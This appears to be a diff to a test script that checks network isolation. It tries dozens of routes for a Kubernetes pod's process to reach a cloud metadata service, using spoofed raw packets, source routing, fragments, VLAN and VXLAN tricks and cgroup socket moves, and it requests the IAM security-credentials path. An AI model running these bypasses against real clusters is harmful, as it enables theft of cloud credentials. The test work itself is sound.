@@ -1,6 +1,9 @@
 """Tries to get a packet to the metadata service by one route, as a pod's process would.
 
-    attack.py ROUTE [--interface NAME] [--mac NEXT_HOP] [--tunnel-to ADDRESS]
+    attack.py ROUTE [--interface NAME] [--mac NEXT_HOP] [--tunnel-to ADDRESS] [--moved FROM TO] [--again]
+
+With --moved the process makes its sockets in one control group and uses them in another; with --again it goes on until
+it is killed.
 
 Whether anything got there is for the packet log of the stand-in to say. Exit code 0: what the route is made of was
 sent, or refused with EPERM, which is as good; printed: what came back. Exit code 3: this kernel has no such thing.
@@ -14,48 +17,28 @@ import select
 import socket
 import struct
 import sys
+import time
 
-M4, M6 = "169.254.169.254", "fd00:ec2::254"
+from packets import (
+    ICMP, ICMPV6, IPIP, IPV6_ROUTING, M4, M6, NODE, NODE6, TCP, UDP, checksum, ethernet, in_fragments, ipv4, ipv6, lsrr,
+    segments, syn)
+
 GET = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n"
 PATIENCE = 0.3
-TCP, UDP, ICMP, ICMPV6, IPIP, MPTCP = 6, 17, 1, 58, 4, 262
+# Between two attempts, in seconds: the machine has other work, too.
+PAUSE = 0.02
+MPTCP, VXLAN_PORT = 262, 4789
 SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
-MSG_FASTOPEN = 0x20000000
-NODE = "10.8.0.1"
-
-
-def checksum(data):
-    if len(data) % 2:
-        data += b"\0"
-    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
-    while total >> 16:
-        total = (total & 0xFFFF) + (total >> 16)
-    return ~total & 0xFFFF
-
-
-def ipv4(payload, protocol, source, to=M4, options=b"", fragment=0):
-    header = struct.pack(
-        "!BBHHHBBH4s4s", 0x40 + 5 + len(options) // 4, 0, 20 + len(options) + len(payload), 7, fragment, 64, protocol,
-        0, socket.inet_aton(source), socket.inet_aton(to)) + options
-    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload
-
-
-def ipv6(payload, protocol, source, to=M6):
-    addresses = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, to)
-    return struct.pack("!IHBB", 0x60000000, len(payload), protocol, 64) + addresses + payload
-
-
-def pseudo(source, to, protocol, length):
-    if ":" in to:
-        ends = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, to)
-        return ends + struct.pack("!IxxxB", length, protocol)
-    return socket.inet_aton(source) + socket.inet_aton(to) + struct.pack("!BBH", 0, protocol, length)
-
-
-def syn(source, to=M4, port=80):
-    segment = struct.pack("!HHIIBBHHH", 33333, port, 1000, 0, 0x50, 2, 0xFFFF, 0, 0)
-    total = checksum(pseudo(source, to, TCP, len(segment)) + segment)
-    return segment[:16] + struct.pack("!H", total) + segment[18:]
+MSG_FASTOPEN, TCP_FASTOPEN_CONNECT = 0x20000000, 30
+# Nobody's addresses, of the pods' networks: a node refuses its own as a source.
+OTHER, OTHER6 = "10.9.0.99", "fd00:9::99"
+# The first pod's: an answer finds its way.
+POD, POD6 = "10.9.0.1", "fd00:9::1"
+# Longer than any interface's packets.
+LONG = bytes(4000)
+# Hop-by-hop options that say nothing (RFC 8200).
+PADDING = bytes([TCP, 0, 1, 4, 0, 0, 0, 0])
+NO_MAC = "00:00:00:00:00:00"
 
 
 def family_of(address):
@@ -91,13 +74,22 @@ def fastopen(to):
     print(sock.recv(4096))
 
 
-def udp(to, port, connected):
+def fastopen_connect(to):
+    """The call returns at once, and the first packet leaves with the first bytes."""
+    sock = socket.socket(family_of(to), socket.SOCK_STREAM)
+    sock.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
+    sock.settimeout(PATIENCE)
+    sock.connect((to, 80))
+    converse(sock)
+
+
+def udp(to, port, connected, data=GET):
     sock = socket.socket(family_of(to), socket.SOCK_DGRAM)
     if connected:
         sock.connect((to, port))
-        sock.send(GET)
+        sock.send(data)
     else:
-        sock.sendto(GET, (to, port))
+        sock.sendto(data, (to, port))
 
 
 def ping(to, kind=socket.SOCK_RAW):
@@ -109,27 +101,24 @@ def ping(to, kind=socket.SOCK_RAW):
     sock.sendto(echo, (to, 0))
 
 
-def raw(packet, to=M4):
-    """A packet with a header of our own making; the kernel routes it."""
+def raw(*packets, to=M4):
+    """Packets with headers of our own making; the kernel routes them."""
     sock = socket.socket(family_of(to), socket.SOCK_RAW, socket.IPPROTO_RAW)
-    sock.sendto(packet, (to, 0))
+    for packet in packets:
+        sock.sendto(packet, (to, 0))
 
 
 def frame(packet, interface, mac, kind=0x0800, tags=(), bypass=False, said=None, cooked=False):
     """A packet that no routing of this namespace sees."""
-    mac = bytes.fromhex(mac.replace(":", ""))
     sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM if cooked else socket.SOCK_RAW, 0)
     if bypass:
         sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
     if cooked:
-        sock.sendto(packet, (interface, kind, 0, 0, mac))
+        sock.sendto(packet, (interface, kind, 0, 0, bytes.fromhex(mac.replace(":", ""))))
         return
     sock.bind((interface, 0))
-    with open(f"/sys/class/net/{interface}/address") as file:
-        source = bytes.fromhex(file.read().strip().replace(":", ""))
-    tagged = b"".join(struct.pack("!HH", tag, number) for tag, number in tags)
-    data = mac + source + tagged + struct.pack("!H", kind) + packet
-    sock.sendto(data, (interface, kind if said is None else said))
+    source = sock.getsockname()[4]
+    sock.sendto(ethernet(packet, mac, source, kind, tags), (interface, kind if said is None else said))
 
 
 def io_uring_connect(to):
@@ -168,9 +157,27 @@ def host_form(text):
     converse(sock)
 
 
-def lsrr(kind):
-    """Loose (131) or strict (137) source route: to the uplink's router, which is to send it on to M."""
-    return struct.pack("!BBB4sB", kind, 7, 4, socket.inet_aton(M4), 0)
+def vxlan(packet, mac, to):
+    """As a peer of the overlay sends it: network 7, addressed to the device at the other end."""
+    header = struct.pack("!II", 0x08000000, 7 << 8)
+    udp(to, VXLAN_PORT, False, header + ethernet(packet, mac))
+
+
+def move_between(one, other):
+    """From here on sockets are made in one control group, and used in the other."""
+    make = socket.socket
+
+    def join(group):
+        with open(f"{group}/cgroup.procs", "w") as file:
+            file.write("0")
+
+    def made(*arguments):
+        join(one)
+        sock = make(*arguments)
+        join(other)
+        return sock
+
+    socket.socket = made
 
 
 def routes(interface, mac, tunnel_to):
@@ -186,6 +193,8 @@ def routes(interface, mac, tunnel_to):
         "tcp-v4-mapped": lambda: tcp("::ffff:" + M4),
         "tcp-fastopen-v4": lambda: fastopen(M4),
         "tcp-fastopen-v6": lambda: fastopen(M6),
+        "tcp-fastopen-connect-v4": lambda: fastopen_connect(M4),
+        "tcp-fastopen-connect-v6": lambda: fastopen_connect(M6),
         "tcp-mptcp-v4": lambda: tcp(M4, protocol=MPTCP),
         "tcp-mptcp-v6": lambda: tcp(M6, protocol=MPTCP),
         "tcp-io-uring": lambda: io_uring_connect(M4),
@@ -199,18 +208,24 @@ def routes(interface, mac, tunnel_to):
         "udp-v6": lambda: udp(M6, 80, False),
         "udp-connected-v4": lambda: udp(M4, 53, True),
         "udp-connected-v6": lambda: udp(M6, 53, True),
+        "udp-long-v4": lambda: udp(M4, 80, False, LONG),
+        "udp-long-v6": lambda: udp(M6, 80, False, LONG),
         "icmp-v4": lambda: ping(M4),
         "icmp-v6": lambda: ping(M6),
         "icmp-socket": lambda: ping(M4, socket.SOCK_DGRAM),
         "raw-syn-v4": lambda: raw(v4()),
-        "raw-syn-v6": lambda: raw(ipv6(syn(own(M6), M6), TCP, own(M6)), M6),
+        "raw-syn-v6": lambda: raw(ipv6(syn(own(M6), M6), TCP, own(M6)), to=M6),
         "raw-protocol-v4": lambda: raw(ipv4(b"protocol", 253, own(M4))),
-        "raw-extension-header-v6": lambda: raw(ipv6(bytes([TCP, 0, 1, 4, 0, 0, 0, 0]) + syn(own(M6), M6), 0, own(M6)), M6),
+        "raw-extension-header-v6": lambda: raw(ipv6(PADDING + syn(own(M6), M6), 0, own(M6)), to=M6),
         "raw-options": lambda: raw(v4(options=b"\x07\x07\x04\0\0\0\0\0")),
         "raw-source-route-loose": lambda: raw(v4(options=lsrr(131))),
         "raw-source-route-strict": lambda: raw(v4(options=lsrr(137))),
         "raw-fragment-first": lambda: raw(ipv4(syn(own(M4)) + bytes(4), TCP, own(M4), fragment=0x2000)),
         "raw-fragment-later": lambda: raw(ipv4(bytes(24), TCP, own(M4), fragment=0x0003)),
+        "raw-fragments-v4": lambda: raw(*in_fragments(own(M4), M4)),
+        "raw-fragments-v6": lambda: raw(*in_fragments(own(M6), M6), to=M6),
+        "raw-source-route-by-node": lambda: raw(ipv4(syn(POD), TCP, POD, NODE, lsrr(131)), to=NODE),
+        "raw-segments-by-node-v6": lambda: raw(ipv6(segments() + syn(POD6, M6), IPV6_ROUTING, POD6, NODE6), to=NODE6),
         "raw-ip-in-ip-to-m": lambda: raw(ipv4(v4(), IPIP, own(M4))),
         "packet-syn-v4": lambda: frame(v4(), interface, mac),
         "packet-syn-v6": lambda: frame(ipv6(syn(own(M6), M6), TCP, own(M6)), interface, mac, kind=0x86DD),
@@ -222,11 +237,17 @@ def routes(interface, mac, tunnel_to):
         "packet-vlan": lambda: frame(v4(), interface, mac, tags=[(0x8100, 5)]),
         "packet-vlan-zero": lambda: frame(v4(), interface, mac, tags=[(0x8100, 0)]),
         "packet-double-vlan": lambda: frame(v4(), interface, mac, tags=[(0x88A8, 5), (0x8100, 0)]),
+        "packet-double-vlan-zero": lambda: frame(v4(), interface, mac, tags=[(0x88A8, 0), (0x8100, 0)]),
+        "packet-triple-vlan-zero": lambda: frame(v4(), interface, mac, tags=[(0x8100, 0)] * 3),
+        "packet-deep-vlan-zero": lambda: frame(v4(), interface, mac, tags=[(0x8100, 0)] * 9),
+        "packet-on-loopback-v4": lambda: frame(ipv4(syn(OTHER), TCP, OTHER), "lo", NO_MAC),
+        "packet-on-loopback-v6": lambda: frame(ipv6(syn(OTHER6, M6), TCP, OTHER6), "lo", NO_MAC, kind=0x86DD),
         "source-m": sourced(M4),
         "source-loopback": sourced("127.0.0.1"),
         "source-node": sourced(NODE),
-        "source-other": sourced("10.9.0.99"),
-        "ip-in-ip": lambda: raw(ipv4(v4(), IPIP, own(M4), to=tunnel_to), tunnel_to),
+        "source-other": sourced(OTHER),
+        "ip-in-ip": lambda: raw(ipv4(ipv4(syn(POD), TCP, POD), IPIP, own(M4), tunnel_to), to=tunnel_to),
+        "vxlan": lambda: vxlan(ipv4(syn(POD), TCP, POD), mac, tunnel_to),
     }
 
 
@@ -236,9 +257,22 @@ def main():
     parser.add_argument("--interface", default="eth0")
     parser.add_argument("--mac", default="ee:ee:ee:ee:ee:ee")
     parser.add_argument("--tunnel-to", default=NODE)
+    parser.add_argument("--moved", nargs=2)
+    parser.add_argument("--again", action="store_true")
     arguments = parser.parse_args()
+    if arguments.moved:
+        move_between(*arguments.moved)
+    attack = routes(arguments.interface, arguments.mac, arguments.tunnel_to)[arguments.route]
+    attempt(attack)
+    while arguments.again:
+        print("again", flush=True)
+        time.sleep(PAUSE)
+        attempt(attack)
+
+
+def attempt(attack):
     try:
-        routes(arguments.interface, arguments.mac, arguments.tunnel_to)[arguments.route]()
+        attack()
     except TimeoutError:
         print("nothing came back")
     except OSError as error:
